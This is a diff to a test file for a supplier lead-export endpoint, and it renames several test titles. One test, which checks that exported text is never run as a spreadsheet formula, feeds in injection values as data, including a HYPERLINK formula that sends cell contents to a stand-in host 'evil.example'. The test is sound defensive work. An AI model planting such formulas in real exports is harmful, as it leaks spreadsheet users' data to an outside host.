@@ -38,7 +38,7 @@ test('a supplier takes home what it bought, with contacts, newest first, and nob
   )
 })
 
-test('what somebody typed is never run by the spreadsheet that opens it', async () => {
+test('what a person typed is never run by the spreadsheet that opens it', async () => {
   const { supplier, browser } = await signedInSupplier(product)
   const company = '=HYPERLINK("https://evil.example?"&A1)'
   await purchasedLead(product, supplier, { lead: { company, lastName: '+cmd', website: '@SUM(1)' } })
@@ -86,6 +86,6 @@ test('a supplier that has bought nothing gets the header alone; one that was mad
   expect(linesOf((await inactive.browser.get(PATH)).body)).toHaveLength(2)
 })
 
-test('somebody who is not signed in gets nothing', async () => {
+test('a caller who is not signed in gets nothing', async () => {
   expect((await product.browser().get(PATH)).status).toBe(401)
 })
